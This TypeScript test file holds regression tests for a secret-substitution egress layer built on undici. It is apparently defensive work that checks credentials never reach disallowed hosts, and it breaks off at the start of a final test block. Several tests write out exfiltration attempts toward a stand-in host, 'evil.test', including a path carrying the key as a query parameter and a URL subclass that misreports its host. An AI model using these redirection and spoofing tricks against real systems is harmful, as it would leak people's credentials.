/**
 * Regression tests for the leaks found by the security review of the egress layer. Each test
 * fails while its leak exists. Real HTTPS servers on 127.0.0.1 with the test CA throughout; the
 * special servers (`support/rawServer.ts`) also record the SNI names they are offered.
 */
import { SecretgateAgent, SubstitutionBlocked } from "@secretgate/undici"
import { Buffer } from "node:buffer"
import type { Duplex } from "node:stream"
import { inspect } from "node:util"
import { Agent, connect, type Dispatcher, fetch as undiciFetch, interceptors, request, upgrade } from "undici"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import { last, makeWorld, type World } from "./support/fixture.js"
import { headerOf, type RawTls, type Special, startRawTls, startSpecial } from "./support/rawServer.js"
import { testAgentOptions } from "./support/upstream.js"

let world: World
let special: Special
beforeAll(async () => {
  world = await makeWorld()
  special = await startSpecial()
})
afterAll(async () => {
  await world.close()
  await special.close()
})

const VALUE = "sk-live-R3v13wL34k"

// ---------------------------------------------------------------------------------------------
// helpers

/** `value` or its UTF-8 bytes read as Latin-1 (how a UTF-8 echo looks in a Latin-1 decoded string). */
const holds = (text: string, value: string = VALUE): boolean =>
  text.includes(value) || text.includes(Buffer.from(value, "utf8").toString("latin1"))

/** Whether these bytes hold `value` as Latin-1 bytes or as UTF-8 bytes. */
const bytesHold = (bytes: Uint8Array, value: string): boolean => {
  const buffer = Buffer.from(bytes)
  return buffer.includes(Buffer.from(value, "latin1")) || buffer.includes(Buffer.from(value, "utf8"))
}

/** Whether a header string, whichever way its bytes are read, holds `value`. */
const headerHolds = (text: string, value: string): boolean =>
  bytesHold(Buffer.from(text, "latin1"), value) || bytesHold(Buffer.from(text, "utf8"), value)

/**
 * Everything an observer could read from `thing`: `inspect` with hidden properties, `String`,
 * JSON, and every string and byte array reachable through own properties (also non-enumerable
 * and symbol-keyed ones, such as `cause` and `data`), bytes read both as Latin-1 and as UTF-8.
 */
const observable = (thing: unknown, maxDepth = 8): string => {
  const parts: Array<string> = [inspect(thing, { depth: Infinity, showHidden: true, maxStringLength: Infinity, maxArrayLength: Infinity })]
  try {
    parts.push(String(thing))
  } catch {
    // some objects cannot be turned into strings
  }
  try {
    parts.push(JSON.stringify(thing) ?? "")
  } catch {
    // circular
  }
  const seen = new Set<unknown>()
  const walk = (x: unknown, depth: number): void => {
    if (typeof x === "string") {
      parts.push(x)
      return
    }
    if (x instanceof Uint8Array) {
      parts.push(Buffer.from(x).toString("latin1"), Buffer.from(x).toString("utf8"))
      return
    }
    if (x === null || typeof x !== "object" || seen.has(x) || depth > maxDepth || seen.size > 5000) return
    seen.add(x)
    for (const key of Reflect.ownKeys(x)) {
      let item: unknown
      try {
        item = (x as Record<PropertyKey, unknown>)[key]
      } catch {
        continue
      }
      walk(item, depth + 1)
    }
  }
  walk(thing, 0)
  return parts.join("\n")
}

const settle = <A>(promise: Promise<A>): Promise<{ ok: true; value: A } | { ok: false; error: unknown }> =>
  promise.then((value) => ({ ok: true as const, value }), (error: unknown) => ({ ok: false as const, error }))

/** Reads a socket until it ends (or `ms` pass). */
const readAll = (socket: Duplex, ms = 3000): Promise<Buffer> =>
  new Promise((resolve) => {
    const chunks: Array<Buffer> = []
    const done = () => {
      clearTimeout(timer)
      resolve(Buffer.concat(chunks))
    }
    const timer = setTimeout(done, ms)
    socket.on("data", (chunk: Buffer) => chunks.push(chunk))
    socket.on("end", done)
    socket.on("close", done)
    socket.on("error", done)
  })

/** The requests `special` received after `since`. */
const specialSince = (since: number) => special.received.slice(since)

/** What a v7-API handler (`onRequestStart`, `onResponseStart`, ...) was given. */
interface Collected {
  statusCode: number | undefined
  statusMessage: string | undefined
  headers: Record<string, unknown>
  body: Buffer
  trailers: Record<string, unknown>
  controllers: Array<Dispatcher.DispatchController>
  /** `controller.rawHeaders` / `rawTrailers` as the handler saw them. */
  rawHeaders: unknown
  rawTrailers: unknown
  /** Everything read from the socket of an upgrade / CONNECT. */
  upgraded: Buffer | undefined
  error: Error | undefined
}

/** Dispatches with a v7-API handler and collects what it was given. */
const dispatchV7 = (dispatcher: Dispatcher, options: Dispatcher.DispatchOptions): Promise<Collected> =>
  new Promise((resolve) => {
    const chunks: Array<Buffer> = []
    const out: Collected = {
      statusCode: undefined,
      statusMessage: undefined,
      headers: {},
      body: Buffer.alloc(0),
      trailers: {},
      controllers: [],
      rawHeaders: undefined,
      rawTrailers: undefined,
      upgraded: undefined,
      error: undefined
    }
    const raw = (controller: Dispatcher.DispatchController) => controller as unknown as { rawHeaders?: unknown; rawTrailers?: unknown }
    const handler: Dispatcher.DispatchHandler = {
      onRequestStart(controller) {
        out.controllers.push(controller)
      },
      onRequestUpgrade(controller, statusCode, headers, socket) {
        out.controllers.push(controller)
        out.statusCode = statusCode
        out.headers = { ...headers }
        void readAll(socket).then((bytes) => {
          out.upgraded = bytes
          resolve(out)
        })
      },
      onResponseStart(controller, statusCode, headers, statusMessage) {
        out.controllers.push(controller)
        out.statusCode = statusCode
        out.statusMessage = statusMessage
        out.headers = { ...headers }
        out.rawHeaders = raw(controller).rawHeaders
      },
      onResponseData(controller, chunk) {
        out.controllers.push(controller)
        chunks.push(Buffer.from(chunk))
      },
      onResponseEnd(controller, trailers) {
        out.controllers.push(controller)
        out.trailers = { ...trailers }
        out.rawTrailers = raw(controller).rawTrailers
        out.body = Buffer.concat(chunks)
        resolve(out)
      },
      onResponseError(_controller, error) {
        out.error = error
        out.body = Buffer.concat(chunks)
        resolve(out)
      }
    }
    try {
      dispatcher.dispatch(options, handler)
    } catch (error) {
      out.error = error as Error
      resolve(out)
    }
  })

/** Dispatches with a handler of undici's older API and collects the status text and body. */
const dispatchLegacy = (dispatcher: Dispatcher, options: Dispatcher.DispatchOptions) =>
  new Promise<{ statusText: string | undefined; rawHeaders: Array<Buffer>; body: Buffer; error: Error | undefined }>((resolve) => {
    const chunks: Array<Buffer> = []
    const out = { statusText: undefined as string | undefined, rawHeaders: [] as Array<Buffer>, body: Buffer.alloc(0), error: undefined as Error | undefined }
    const handler = {
      onConnect() {},
      onHeaders(_status: number, rawHeaders: Array<Buffer>, _resume: () => void, statusText?: string) {
        out.statusText = statusText
        out.rawHeaders = rawHeaders
        return true
      },
      onData(chunk: Buffer) {
        chunks.push(chunk)
        return true
      },
      onComplete() {
        out.body = Buffer.concat(chunks)
        resolve(out)
      },
      onError(error: Error) {
        out.error = error
        resolve(out)
      }
    }
    dispatcher.dispatch(options, handler as unknown as Dispatcher.DispatchHandler)
  })

const withheld = (reason: string) => expect.objectContaining({ type: "withheld", reason })

// ---------------------------------------------------------------------------------------------

describe("1. a placeholder in the Host header", () => {
  it("substitutes nothing in the request; the value is in no error and at no server (SNI included)", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const sniSince = special.servernames.length
    const outcome = await settle(
      request(special.url("api.allowed.test", "/"), { headers: { host: box.env.KEY!, "x-key": box.env.KEY! }, dispatcher: box.agent }).then((r) =>
        r.body.text()
      )
    )
    if (!outcome.ok) {
      const error = outcome.error as Error
      expect(holds(observable(error))).toBe(false)
      expect(holds(String(error.message))).toBe(false)
      expect(holds(observable(error.cause))).toBe(false)
    } else {
      expect(holds(outcome.value)).toBe(false)
    }
    // SNI comes from the Host header: the value would travel in clear text in the ClientHello
    expect(special.servernames.slice(sniSince).some((name) => holds(name))).toBe(false)
    for (const received of specialSince(since)) {
      expect(holds(`${received.url}\n${received.rawHeaders.join("\n")}\n${received.body.toString("latin1")}`)).toBe(false)
      expect(received.headers["x-key"]).toBe(box.env.KEY)
    }
    expect(box.events.filter((e) => e.type === "substituted")).toEqual([])
    expect(box.events).toContainEqual(withheld("host-mismatch"))
  })
})

describe("2. misdirection: the request goes elsewhere than the dispatch origin says", () => {
  const expectNoValueSent = (since: number, sniSince: number, placeholder: string) => {
    expect(holds(special.servernames.slice(sniSince).join(" "))).toBe(false)
    for (const received of specialSince(since)) {
      expect(holds(`${received.url}\n${received.rawHeaders.join("\n")}\n${received.body.toString("latin1")}`)).toBe(false)
      if (received.headers["x-key"] !== undefined) expect(received.headers["x-key"]).toBe(placeholder)
    }
  }

  it("a Host header naming another host: withheld (host-mismatch)", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const sniSince = special.servernames.length
    const outcome = await settle(
      request(special.url("api.allowed.test", "/"), { headers: { host: "evil.test", "x-key": box.env.KEY! }, dispatcher: box.agent }).then((r) =>
        r.body.text()
      )
    )
    if (!outcome.ok) expect(holds(observable(outcome.error))).toBe(false)
    expectNoValueSent(since, sniSince, box.env.KEY!)
    expect(box.events.filter((e) => e.type === "substituted")).toEqual([])
    expect(box.events).toContainEqual(withheld("host-mismatch"))
  })

  it("a servername dispatch option naming another host: withheld (host-mismatch)", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const sniSince = special.servernames.length
    const outcome = await settle(
      request(special.url("api.allowed.test", "/"), { servername: "evil.test", headers: { "x-key": box.env.KEY! }, dispatcher: box.agent } as never)
        .then((r) => r.body.text())
    )
    if (!outcome.ok) expect(holds(observable(outcome.error))).toBe(false)
    expectNoValueSent(since, sniSince, box.env.KEY!)
    expect(box.events.filter((e) => e.type === "substituted")).toEqual([])
    expect(box.events).toContainEqual(withheld("host-mismatch"))
  })

  it("an absolute-form path naming another host: withheld (host-mismatch)", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const sniSince = special.servernames.length
    const outcome = await settle(
      box.agent.request({
        origin: `https://api.allowed.test:${special.port}`,
        path: `https://evil.test/steal?k=${box.env.KEY}`,
        method: "GET",
        headers: { "x-key": box.env.KEY! }
      }).then((r) => r.body.text())
    )
    if (!outcome.ok) expect(holds(observable(outcome.error))).toBe(false)
    expectNoValueSent(since, sniSince, box.env.KEY!)
    expect(box.events.filter((e) => e.type === "substituted")).toEqual([])
    expect(box.events).toContainEqual(withheld("host-mismatch"))
  })

  it("a Host header equal to the origin's host (any case) still gets the value", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const response = await request(special.url("api.allowed.test", "/"), {
      headers: { host: `API.Allowed.Test:${special.port}`, "x-key": box.env.KEY! },
      dispatcher: box.agent
    })
    expect(holds(await response.body.text())).toBe(false)
    expect(specialSince(since).map((r) => r.headers["x-key"])).toEqual([VALUE])
    expect(box.events).toEqual([expect.objectContaining({ type: "substituted", secret: "key", host: "api.allowed.test", surface: "header" })])
  })
})

describe("3. upgraded connections and CONNECT tunnels cannot be scrubbed", () => {
  it("upgrade: the upstream gets the placeholder, the sandbox's socket never shows the value", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const outcome = await settle(upgrade(special.url("api.allowed.test", "/ws"), {
      headers: { authorization: `Bearer ${box.env.KEY}` },
      dispatcher: box.agent
    }))
    const received = specialSince(since)
    expect(received.map((r) => r.kind)).toEqual(["upgrade"])
    expect(received[0]!.headers.authorization).toBe(`Bearer ${box.env.KEY}`)
    if (outcome.ok) {
      expect(holds(inspect(outcome.value.headers))).toBe(false)
      const bytes = await readAll(outcome.value.socket)
      expect(bytes.toString("latin1")).toContain("authorization=") // the echo did come through the socket
      expect(bytesHold(bytes, VALUE)).toBe(false)
    } else {
      expect(holds(observable(outcome.error))).toBe(false)
    }
    expect(box.events.filter((e) => e.type === "substituted")).toEqual([])
    expect(box.events).toContainEqual(withheld("unsafe-position"))
  })

  it("CONNECT: the upstream gets the placeholder, the tunnel never shows the value", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const outcome = await settle(connect(special.url("api.allowed.test", "/"), {
      headers: { authorization: `Bearer ${box.env.KEY}` },
      dispatcher: box.agent
    }))
    const received = specialSince(since)
    expect(received.map((r) => r.kind)).toEqual(["connect"])
    expect(received[0]!.headers.authorization).toBe(`Bearer ${box.env.KEY}`)
    if (outcome.ok) {
      expect(holds(inspect(outcome.value.headers))).toBe(false)
      const bytes = await readAll(outcome.value.socket)
      expect(bytes.toString("latin1")).toContain("authorization=")
      expect(bytesHold(bytes, VALUE)).toBe(false)
    } else {
      expect(holds(observable(outcome.error))).toBe(false)
    }
    expect(box.events.filter((e) => e.type === "substituted")).toEqual([])
    expect(box.events).toContainEqual(withheld("unsafe-position"))
  })
})

describe("4. a non-ASCII (Latin-1) value echoed as raw bytes", () => {
  const value = "pässwörd-Ünïcode-42"
  for (const [label, options] of [["legacy handler (plain agent)", {}], ["v7 handler (maxRedirections: 3)", { maxRedirections: 3 }]] as const) {
    it(`is scrubbed from headers and body in both Latin-1 and UTF-8 bytes — ${label}`, async () => {
      expect([...value].every((char) => char.charCodeAt(0) <= 0xff)).toBe(true)
      const box = await world.sandbox({ key: [value, ["api.allowed.test"]] }, options)
      const since = special.received.length
      const response = await request(special.url("api.allowed.test", "/bytes-echo"), { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })
      const body = Buffer.from(await response.body.arrayBuffer())
      // the upstream did get the value (as Latin-1 header bytes)
      expect(specialSince(since).map((r) => r.headers["x-key"])).toEqual([value])
      expect(response.statusCode).toBe(200)
      expect(body.toString("latin1")).toContain("latin1=")
      for (const [name, headerValue] of Object.entries(response.headers)) {
        for (const item of Array.isArray(headerValue) ? headerValue : [headerValue ?? ""]) {
          expect([name, headerHolds(String(item), value)]).toEqual([name, false])
        }
      }
      expect(bytesHold(body, value)).toBe(false)
    })
  }
})

describe("5. Basic credentials echoed in other encodings", () => {
  it("JSON with \\/ escaping (PHP style) and URL-encoded in a Location header are scrubbed", async () => {
    const value = "sk-live-??>~basic"
    const box = await world.sandbox({ key: [value, ["api.allowed.test"]] })
    const sentToken = Buffer.from(`me:${value}`).toString("base64")
    expect(sentToken).toMatch(/[/+]/) // the point: base64 with characters that JSON and URLs escape
    expect(sentToken).toContain("/")
    expect(sentToken).toContain("+")
    const since = special.received.length
    const response = await request(special.url("api.allowed.test", "/basic-echo"), {
      headers: { authorization: `Basic ${Buffer.from(`me:${box.env.KEY}`).toString("base64")}` },
      dispatcher: box.agent
    })
    const body = await response.body.text()
    const location = String(response.headers.location)
    expect(specialSince(since).map((r) => r.headers.authorization)).toEqual([`Basic ${sentToken}`])
    // the forms the upstream wrote
    expect(body).not.toContain(sentToken.replaceAll("/", "\\/"))
    expect(body).not.toContain(sentToken)
    expect(location).not.toContain(encodeURIComponent(sentToken))
    // and whatever comes back decodes to no value
    const echoed = (JSON.parse(body) as { authorization: string }).authorization
    expect(Buffer.from(echoed.replace(/^Basic\s+/i, ""), "base64").toString("utf8")).not.toContain(value)
    const fromLocation = new URL(location, "https://x").searchParams.get("auth") ?? ""
    expect(Buffer.from(fromLocation.replace(/^Basic\s+/i, ""), "base64").toString("utf8")).not.toContain(value)
    expect(holds(body, value) || holds(location, value)).toBe(false)
  })
})

describe("6. an error built from upstream bytes", () => {
  let raw: RawTls
  beforeAll(async () => {
    // a response whose header section has a malformed line after an echo of the credentials,
    // and the credentials again after it (undici's HTTPParserError keeps the bytes from the error on)
    raw = await startRawTls((head, socket) => {
      const auth = headerOf(head, "authorization")
      socket.end(`HTTP/1.1 200 OK\r\nx-echo: ${auth}\r\nthis line is malformed ${auth}\r\nx-after: ${auth}\r\n\r\n`, "latin1")
    })
  })
  afterAll(() => raw.close())

  for (const [label, options] of [["plain agent", {}], ["maxRedirections: 3", { maxRedirections: 3 }]] as const) {
    it(`undici.request's rejection holds no value — ${label}`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, options)
      const before = raw.heads.length
      const outcome = await settle(
        request(raw.url("api.allowed.test", "/"), { headers: { authorization: `Bearer ${box.env.KEY}` }, dispatcher: box.agent }).then((r) => r.body.text())
      )
      expect(raw.heads.slice(before).map((head) => headerOf(head, "authorization"))).toEqual([`Bearer ${VALUE}`])
      expect(outcome.ok).toBe(false)
      const error = (outcome as { error: unknown }).error
      expect(observable(error)).toMatch(/HTTPParserError|does not match the HTTP\/1\.1 protocol|malformed|HPE_|invalid/i)
      expect(holds(observable(error))).toBe(false)
    })
  }

  it("undici.fetch's TypeError and its cause hold no value", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const before = raw.heads.length
    const outcome = await settle(undiciFetch(raw.url("api.allowed.test", "/"), {
      headers: { authorization: `Bearer ${box.env.KEY}` },
      dispatcher: box.agent
    }).then((r) => r.text()))
    expect(raw.heads.slice(before).map((head) => headerOf(head, "authorization"))).toEqual([`Bearer ${VALUE}`])
    expect(outcome.ok).toBe(false)
    const error = (outcome as { error: unknown }).error as Error
    expect(error).toBeInstanceOf(TypeError)
    expect(holds(observable(error))).toBe(false)
    expect(holds(observable(error.cause))).toBe(false)
  })
})

describe("7. a caching dispatcher shared by two sandboxes", () => {
  it("sandbox B never gets sandbox A's value from the cache; substituted requests go out with no-store", async () => {
    const VALUE_A = "sk-live-AAAA-cached-value"
    const VALUE_B = "sk-live-BBBB-other-value"
    const cached = new Agent(testAgentOptions).compose(interceptors.cache())
    const a = await world.sandbox({ key: [VALUE_A, ["api.allowed.test"]] }, { dispatcher: cached })
    const bNone = await world.sandbox({ other: ["sk-live-unrelated-1", ["other.test"]] }, { dispatcher: cached })
    const bOwn = await world.sandbox({ key: [VALUE_B, ["api.allowed.test"]] }, { dispatcher: cached })
    const url = special.url("api.allowed.test", `/cache?run=${Date.now()}`)
    const since = special.received.length

    const fromA = await request(url, { headers: { authorization: `Bearer ${a.env.KEY}` }, dispatcher: a.agent })
    expect(await fromA.body.text()).toBe(`authorization=Bearer ${a.env.KEY}`)
    const first = specialSince(since)
    expect(first.map((r) => r.headers.authorization)).toEqual([`Bearer ${VALUE_A}`])

    const fromNone = await request(url, { dispatcher: bNone.agent })
    const noneText = await fromNone.body.text()
    const fromOwn = await request(url, { headers: { authorization: `Bearer ${bOwn.env.KEY}` }, dispatcher: bOwn.agent })
    const ownText = await fromOwn.body.text()
    expect(holds(noneText, VALUE_A)).toBe(false)
    expect(holds(ownText, VALUE_A)).toBe(false)
    expect(holds(ownText, VALUE_B)).toBe(false)
    expect(String(first[0]!.headers["cache-control"] ?? "")).toMatch(/no-store/)
    await cached.close()
  })
})

describe("8. an origin that is a URL subclass lying in toString()", () => {
  it("the decision uses the host the connection goes to: evil.test never gets the value", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const port = special.port
    const Spoof = class extends URL {
      override toString() {
        return `https://api.allowed.test:${port}/`
      }
    }
    const since = special.received.length
    const sniSince = special.servernames.length
    const collected = await dispatchV7(box.agent, {
      origin: new Spoof(`https://evil.test:${port}/`) as unknown as string,
      path: "/",
      method: "GET",
      headers: { "x-key": box.env.KEY! }
    })
    if (collected.error !== undefined) expect(holds(observable(collected.error))).toBe(false)
    else expect(holds(collected.body.toString("latin1"))).toBe(false)
    const received = specialSince(since)
    // (with a plain Agent this very dispatch reaches evil.test: the connection follows the URL's real host)
    for (const r of received) {
      expect(r.headers["x-key"]).toBe(box.env.KEY)
      expect(holds(`${r.url}\n${r.rawHeaders.join("\n")}`)).toBe(false)
    }
    expect(holds(special.servernames.slice(sniSince).join(" "))).toBe(false)
    expect(box.events.filter((e) => e.type === "substituted")).toEqual([])
  })

  it("(setup check) a plain Agent really sends such a dispatch to evil.test", async () => {
    const plain = new Agent(testAgentOptions)
    const port = special.port
    const Spoof = class extends URL {
      override toString() {
        return `https://api.allowed.test:${port}/`
      }
    }
    const since = special.received.length
    const collected = await dispatchV7(plain, { origin: new Spoof(`https://evil.test:${port}/`) as unknown as string, path: "/", method: "GET" })
    await plain.close()
    expect(collected.error).toBeUndefined()
    expect(specialSince(since).map((r) => r.headers.host)).toEqual([`evil.test:${port}`])
  })
})

describe("9. a v7 handler cannot reach the unscrubbed controller", () => {
  for (const [label, options] of [["plain agent", {}], ["maxRedirections: 3", { maxRedirections: 3 }]] as const) {
    it(`controller.target is not exposed and rawHeaders / rawTrailers are scrubbed — ${label}`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, options)
      const collected = await dispatchV7(box.agent, {
        origin: `https://api.allowed.test:${world.https.port}`,
        path: "/echo-headers",
        method: "GET",
        headers: { "x-key": box.env.KEY!, authorization: `Bearer ${box.env.KEY}` }
      })
      expect(collected.error).toBeUndefined()
      expect(last(world.https).headers["x-key"]).toBe(VALUE) // the upstream got it and echoed it
      expect(collected.headers["x-echo-x-key"]).toBe(box.env.KEY)
      expect(collected.controllers.length).toBeGreaterThan(0)
      for (const controller of collected.controllers) {
        expect((controller as unknown as { target?: unknown }).target).toBeUndefined()
        const raw = controller as unknown as { rawHeaders?: unknown; rawTrailers?: unknown }
        expect(holds(observable(raw.rawHeaders))).toBe(false)
        expect(holds(observable(raw.rawTrailers))).toBe(false)
        // nothing reachable from the controller's own properties holds the value either
        expect(holds(observable(controller, 4))).toBe(false)
      }
      expect(holds(observable(collected.rawHeaders))).toBe(false)

      const trailers = await dispatchV7(box.agent, {
        origin: `https://api.allowed.test:${world.https.port}`,
        path: "/echo-trailers",
        method: "GET",
        headers: { authorization: `Bearer ${box.env.KEY}` }
      })
      expect(trailers.error).toBeUndefined()
      expect(trailers.trailers["x-echo"]).toBe(`Bearer ${box.env.KEY}`)
      expect(holds(observable(trailers.rawTrailers))).toBe(false)
      for (const controller of trailers.controllers) {
        expect((controller as unknown as { target?: unknown }).target).toBeUndefined()
        expect(holds(observable(controller, 4))).toBe(false)
      }
    })
  }
})

describe("10. block mode sees placeholders everywhere undici puts them on the wire", () => {
  const blockedCases: ReadonlyArray<readonly [string, (ph: string) => object]> = [
    ["a query array value", (ph) => ({ query: { k: [ph] } })],
    ["a query key", (ph) => ({ query: { [ph]: "1" } })],
    ["a header name", (ph) => ({ headers: { [ph]: "1" } })]
  ]
  for (const [label, make] of blockedCases) {
    it(`${label} to a disallowed host: SubstitutionBlocked, nothing sent`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { onDisallowed: "block" })
      const before = world.https.received.length
      const outcome = await settle(request(world.https.url("evil.test", "/"), { ...make(box.env.KEY!), dispatcher: box.agent }).then((r) => r.body.text()))
      expect(outcome.ok).toBe(false)
      expect((outcome as { error: unknown }).error).toBeInstanceOf(SubstitutionBlocked)
      expect(world.https.received.length).toBe(before)
      expect(box.events).toContainEqual(expect.objectContaining({ type: "blocked", host: "evil.test" }))
    })
  }

  it("a query array value to an allowed host is substituted", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] }, { onDisallowed: "block" })
    await (await request(world.https.url("api.allowed.test", "/q"), { query: { k: [box.env.KEY!, "plain"] }, dispatcher: box.agent })).body.text()
    expect(new URL(last(world.https).url, "https://x").searchParams.getAll("k")).toEqual([VALUE, "plain"])
  })
})

describe("11. a Blob body keeps its type", () => {
  it("application/json Blob: the value is JSON-escaped and content-type is kept", async () => {
    const value = 'sk-"quoted"-bl\\ob'
    const box = await world.sandbox({ key: [value, ["api.allowed.test"]] })
    const response = await request(world.https.url("api.allowed.test", "/"), {
      method: "POST",
      body: new Blob([JSON.stringify({ k: box.env.KEY })], { type: "application/json" }) as never,
      dispatcher: box.agent
    })
    await response.body.text()
    const received = last(world.https)
    expect(received.headers["content-type"]).toBe("application/json")
    expect(JSON.parse(received.body.toString("utf8"))).toEqual({ k: value })
  })
})

describe("12. headers given as a one-shot iterable", () => {
  for (const host of ["other.test", "api.allowed.test"]) {
    it(`are forwarded intact (to ${host})`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
      const headers = (function*() {
        yield ["x-one", "1"] as [string, string]
        yield ["x-two", "2"] as [string, string]
      })()
      const response = await request(world.https.url(host, "/"), { headers: headers as never, dispatcher: box.agent })
      await response.body.text()
      expect(last(world.https).headers["x-one"]).toBe("1")
      expect(last(world.https).headers["x-two"]).toBe("2")
    })
  }
})

describe("13. allowHttp takes host names only", () => {
  it("a wildcard entry is a TypeError naming the entry", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const resolver = await world.gate.resolver(box.mount)
    let thrown: unknown
    try {
      new SecretgateAgent({ resolver, allowHttp: ["*.example.com"] }).close()
    } catch (error) {
      thrown = error
    }
    expect(thrown).toBeInstanceOf(TypeError)
    expect(String((thrown as Error).message)).toContain("*.example.com")
    expect(String((thrown as Error).message)).toMatch(/not a (valid )?host[ -]?name/i)
  })
})

describe("coverage: body and header forms", () => {
  it("an ArrayBuffer body is substituted, with an exact content-length", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const text = `key=${box.env.KEY};`
    const bytes = new TextEncoder().encode(text)
    const arrayBuffer = bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength)
    await (await request(world.https.url("api.allowed.test", "/"), {
      method: "POST",
      headers: { "content-type": "text/plain", "content-length": String(bytes.byteLength) },
      body: arrayBuffer as never,
      dispatcher: box.agent
    })).body.text()
    const received = last(world.https)
    expect(received.body.toString()).toBe(`key=${VALUE};`)
    expect(received.headers["content-length"]).toBe(String(received.body.length))
  })

  const forms: ReadonlyArray<readonly [string, (ph: string) => unknown]> = [
    ["a flat array", (ph) => ["x-key", ph, "x-plain", "1"]],
    ["a Headers instance", (ph) => new Headers({ "x-key": ph, "x-plain": "1" })],
    ["a Map", (ph) => new Map([["x-key", ph], ["x-plain", "1"]])]
  ]
  for (const [label, make] of forms) {
    it(`headers as ${label}: substituted for the allowed host, the placeholder elsewhere`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
      await (await request(world.https.url("api.allowed.test", "/"), { headers: make(box.env.KEY!) as never, dispatcher: box.agent })).body.text()
      expect(last(world.https).headers["x-key"]).toBe(VALUE)
      expect(last(world.https).headers["x-plain"]).toBe("1")
      await (await request(world.https.url("evil.test", "/"), { headers: make(box.env.KEY!) as never, dispatcher: box.agent })).body.text()
      expect(last(world.https).headers["x-key"]).toBe(box.env.KEY)
      expect(last(world.https).headers["x-plain"]).toBe("1")
    })
  }

  // undici.request itself rejects these two forms; through secretgate they must still never carry
  // the value anywhere it is not allowed, nor into an error.
  const odd: ReadonlyArray<readonly [string, (ph: string) => unknown]> = [
    ["an array of pairs", (ph) => [["x-key", ph], ["x-plain", "1"]]],
    ["Buffer values", (ph) => ({ "x-key": Buffer.from(ph), "x-plain": "1" })]
  ]
  for (const [label, make] of odd) {
    it(`headers as ${label}: the value reaches only the allowed host, and no error holds it`, async () => {
      const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
      for (const host of ["api.allowed.test", "evil.test"]) {
        const before = world.https.received.length
        const outcome = await settle(request(world.https.url(host, "/"), { headers: make(box.env.KEY!) as never, dispatcher: box.agent }).then((r) => r.body.text()))
        if (!outcome.ok) expect(holds(observable(outcome.error))).toBe(false)
        const received = world.https.received.slice(before)
        for (const r of received) expect(r.headers["x-key"]).toBe(host === "api.allowed.test" ? VALUE : box.env.KEY)
      }
    })
  }

  it("proxy-authorization: Basic is decoded, substituted and re-encoded; its echo is scrubbed", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const since = special.received.length
    const response = await request(special.url("api.allowed.test", "/basic-echo"), {
      headers: { "proxy-authorization": `Basic ${Buffer.from(`me:${box.env.KEY}`).toString("base64")}` },
      dispatcher: box.agent
    })
    const body = await response.body.text()
    const sent = String(specialSince(since)[0]!.headers["proxy-authorization"])
    expect(sent).toMatch(/^Basic /)
    expect(Buffer.from(sent.slice(6), "base64").toString("utf8")).toBe(`me:${VALUE}`)
    expect(body).not.toContain(sent.slice(6))
    const echoed = (JSON.parse(body) as { proxy: string }).proxy
    expect(Buffer.from(echoed.replace(/^Basic\s+/i, ""), "base64").toString("utf8")).toBe(`me:${box.env.KEY}`)
  })

  it("an IDN destination matches a secret whose host is written in Unicode", async () => {
    const box = await world.sandbox({ key: [VALUE, ["bücher.test"]] })
    await (await request(world.https.url("xn--bcher-kva.test", "/"), { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })).body.text()
    expect(last(world.https).headers["x-key"]).toBe(VALUE)
    await (await request(`https://bücher.test:${world.https.port}/`, { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })).body.text()
    expect(last(world.https).headers["x-key"]).toBe(VALUE)
    expect(last(world.https).host).toBe(`xn--bcher-kva.test:${world.https.port}`)
    await (await request(world.https.url("evil.test", "/"), { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })).body.text()
    expect(last(world.https).headers["x-key"]).toBe(box.env.KEY)
  })

  it("a status text that echoes the value is scrubbed (fetch, legacy and v7 handlers)", async () => {
    const box = await world.sandbox({ key: [VALUE, ["api.allowed.test"]] })
    const url = special.url("api.allowed.test", "/status-echo")
    const since = special.received.length
    const viaFetch = await undiciFetch(url, { headers: { "x-key": box.env.KEY! }, dispatcher: box.agent })
    await viaFetch.text()
    expect(specialSince(since).map((r) => r.headers["x-key"])).toEqual([VALUE])
    expect(viaFetch.statusText).toBe(box.env.KEY)
    const options = { origin: `https://api.allowed.test:${special.port}`, path: "/status-echo", method: "GET", headers: { "x-key": box.env.KEY! } }
    const legacy = await dispatchLegacy(box.agent, options)
    expect(legacy.error).toBeUndefined()
    expect(legacy.statusText).toBe(box.env.KEY)
    const v7 = await dispatchV7(box.agent, options)
    expect(v7.error).toBeUndefined()
    expect(v7.statusMessage).toBe(box.env.KEY)
  })
})

/**
 * Not in the review: found while writing the tests above. A caller holding the dispatcher can pass
 * dispatch options whose fields are getters; every field the decision depends on must be read
 * once, so that what was checked is what undici sends.
 */
describe("dispatch options read once: no field may say one thing to the check and another to undici", () => {
  /** `base` with `field` reading `benign` the first `reads` times, `hostile` afterwards. */
